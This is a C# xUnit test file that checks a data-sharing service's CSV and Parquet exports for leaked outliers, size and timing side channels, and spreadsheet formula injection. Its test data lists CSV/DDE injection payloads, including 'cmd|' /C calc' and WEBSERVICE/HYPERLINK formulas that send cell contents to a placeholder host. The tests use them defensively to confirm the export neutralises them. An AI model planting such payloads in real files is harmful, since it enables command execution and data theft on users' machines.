using System.Collections.Concurrent;
using System.Globalization;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Shouldly;
using Xunit;
using Yuanliu.Compute.Watermark;
using Yuanliu.Contracts;
using Yuanliu.Engines.DuckDb;
using Yuanliu.Tests.Attacks.Counting;

namespace Yuanliu.Tests.Attacks.Doors;

/// <summary>文件交付的攻击 — a file holds what is agreed, within its bounds, and nothing that a spreadsheet would carry out.</summary>
public sealed class FileDoorTests(FileDoorTests.Watched arena) : IClassFixture<FileDoorTests.Watched>
{
    /// <summary>Counts how often a table is looked for.</summary>
    public sealed class Watched : DoorArena
    {
        readonly ConcurrentDictionary<ResourceId, int> looks = new();

        protected override void Looked(ResourceId resource) => looks.AddOrUpdate(resource, 1, (_, n) => n + 1);

        internal int Looks(ResourceId resource) => looks.GetValueOrDefault(resource);
    }

    static readonly int People = Patients.CrowdSize * 3 / 2 + Victim.Count;

    public static TheoryData<int> Victims => [.. Enumerable.Range(0, 20)];

    /// <summary>An outlier is the bound, and who has it is not named; in text as in Parquet.</summary>
    [Theory]
    [MemberData(nameof(Victims))]
    [Cases(AttackClass.Extremes, By = AttackDoor.File)]
    public async Task Nothing_beyond_its_bound_and_nobody_is_in_a_file(int number)
    {
        var victim = Victim.Of(number);
        foreach (var world in (World[])[World.First, World.Second])
        {
            var rows = await Rows(arena.Enter(world, DoorArena.Gateway), number % 2 == 0 ? "Csv" : "Parquet");
            rows.Count.ShouldBe(People);
            var cells = rows.SelectMany(r => r).Select(Trial.Text).ToHashSet();
            foreach (var planted in (string[])[$"{victim.Cost(world)}", victim.Id, "x", Victim.FirstDiagnosis, Victim.SecondDiagnosis])
                cells.ShouldNotContain(planted);
            rows.Max(r => Convert.ToDecimal(r[4], CultureInfo.InvariantCulture)).ShouldBe(DoorArena.CostMax);
        }
        Proof.Tried();
        await arena.ShouldShowRows();
    }

    /// <summary>What a spreadsheet takes for a formula, a link or a command.</summary>
    public static TheoryData<string> Formulas =>
    [
        "=1+1", "=HYPERLINK(\"http://x/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=cmd|' /C notepad'!A1", "\t=1+1", "\r=1+1",
        "=IMPORTXML(\"http://x\",\"//a\")", "=WEBSERVICE(\"http://x/\"&A1)", "＝1+1", "＋1", "－1+2", "＠SUM(A1)", "=1\n+1", "=\"a\";\"b\"",
        "@@", "=+-", "+", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=RTD(\"x\",\"\")", "  =1+1", "\"=1+1\"", "';=1",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    [Cases(AttackClass.TemplateInjection, By = AttackDoor.File)]
    public async Task What_a_holder_wrote_is_carried_out_by_no_spreadsheet(string formula)
    {
        var csv = new StringBuilder(Patients.Csv(World.First));
        for (var i = 0; i < 40; i++)
            csv.Append(CultureInfo.InvariantCulture, $"\"{formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",{20 + i % 9},女,流感,")
                .Append(CultureInfo.InvariantCulture, $"2026-01-15,{1000 + i},3,f{i},x\n");
        var id = arena.Keep(Arena.Holder, csv.ToString(), Patients.Columns);
        var attacker = arena.Sign(arena.Enter(World.Without).Buyer, id, DoorArena.Gateway);
        foreach (var format in (string[])["Csv", "Parquet"])
        {
            var texts = (await Rows(attacker, format)).SelectMany(r => r).OfType<string>().Distinct().ToList();
            texts.Count.ShouldBeGreaterThan(6);
            texts.ShouldAllBe(t => !"=+-@\t\r＝＋－＠".Contains(t[0]), formula);
        }
        Proof.Tried();
        await arena.ShouldShowRows();
    }

    /// <summary>What is hidden is short in one table and long in the other: the file of each is its cells and nothing more, and as much is
    /// done and told for the one as for the other.</summary>
    [Theory]
    [MemberData(nameof(Victims))]
    [Cases(AttackClass.Channels, By = AttackDoor.File)]
    public async Task Neither_the_size_of_a_file_nor_the_work_for_it_tells_what_is_hidden(int number)
    {
        var (told, files, format) = (new List<string>(), new List<IReadOnlyList<object?[]>>(), number % 2 == 0 ? "Csv" : "Parquet");
        foreach (var world in (World[])[World.First, World.Second])
        {
            var victim = Victim.Of(number);
            var hidden = world is World.First ? "x" : new string('9', 500 * (1 + number));
            var csv = Patients.Csv(world).Replace($",{victim.Id},x\n", $",{victim.Id},{hidden}\n", StringComparison.Ordinal);
            var id = arena.Keep(Arena.Holder, csv, Patients.Columns);
            var attacker = arena.Sign(arena.Enter(World.Without).Buyer, id, DoorArena.Gateway);
            files.Add(await Rows(attacker, format));
            told.Add($"{Told(attacker.Seen[0])} {arena.Looks(id)} {await Beside(attacker, files[^1], format)}");
        }
        ShouldDifferByMarksOnly(files[0], files[1]);
        told.ShouldBeAlike();
        await arena.ShouldShowRows();
    }

    /// <summary>All but what is drawn anew for every file, and how long that is.</summary>
    static string Told(Reply made) => string.Join(' ', made.Body.Select(m => m.Key is "useId" or "fileSha256" or "markSha256" or "href"
        ? $"{m.Key} {m.Value!.ToJsonString().Length}" : $"{m.Key} {m.Value?.ToJsonString()}"));

    /// <summary>What there is besides the cells: in the file, and of the job that made it.</summary>
    static async Task<string> Beside(Attacker who, IReadOnlyList<object?[]> rows, string format)
    {
        var jobs = (await who.Client.GetFromJsonAsync<JsonArray>("/api/jobs"))!.Select(j
            => $"{j!["kind"]} {j["state"]} {j["done"]} {j["total"]}");
        var bytes = await who.Fetch(who.Seen[0]);
        var cells = rows.SelectMany(r => r).Sum(c => Encoding.UTF8.GetByteCount(c as string ?? ""));
        return string.Join('|', jobs) + (format is "Csv" ? $" {bytes.Length - cells}" : await Read(bytes, path => string.Join(' ',
            ((string[])[$"SELECT num_rows, num_row_groups FROM parquet_file_metadata({path})",
                $"SELECT count(*) FROM parquet_kv_metadata({path})", $"SELECT name, type FROM parquet_schema({path})",
                $"SELECT path_in_schema, num_values, compression FROM parquet_metadata({path})"])
                .Select(sql => string.Join(',', Plain(sql).SelectMany(r => r).Select(Trial.Text))))));
    }

    /// <summary>Rows in the same order, and no more cells apart than two recipients' marks may change.</summary>
    internal static void ShouldDifferByMarksOnly(IReadOnlyList<object?[]> one, IReadOnlyList<object?[]> other)
    {
        one.Count.ShouldBe(other.Count);
        var apart = one.Zip(other).Sum(rows => rows.First.Zip(rows.Second).Count(c => Trial.Text(c.First) != Trial.Text(c.Second)));
        apart.ShouldBeLessThanOrEqualTo((int)(2 * new UsabilityLimits().ChangedShareMax * one.Count * one[0].Length));
    }

    /// <summary>The rows of a file as a program reads them.</summary>
    internal static async Task<IReadOnlyList<object?[]>> Rows(Attacker who, string format)
    {
        var made = await who.Deliver(format);
        made.IsAnswer.ShouldBeTrue(made.Said);
        return await Read(await who.Fetch(made), path => Plain("SELECT * FROM " + (format is "Csv"
            ? $"read_csv({path}, header = true, delim = ',', quote = '\"', escape = '\"', all_varchar = true)" : $"read_parquet({path})")));
    }

    static async Task<T> Read<T>(byte[] file, Func<string, T> read)
    {
        var path = Path.GetTempFileName();
        try
        {
            await File.WriteAllBytesAsync(path, file);
            return read(Sql.Text(path));
        }
        finally { File.Delete(path); }
    }

    static IReadOnlyList<object?[]> Plain(string sql)
    {
        using var database = Database.Open(new() { ExternalAccess = true, Threads = 1 }).OrThrow();
        using var connection = database.Connect();
        return connection.ReadAll(sql, 10_000).OrThrow().Rows;
    }
}
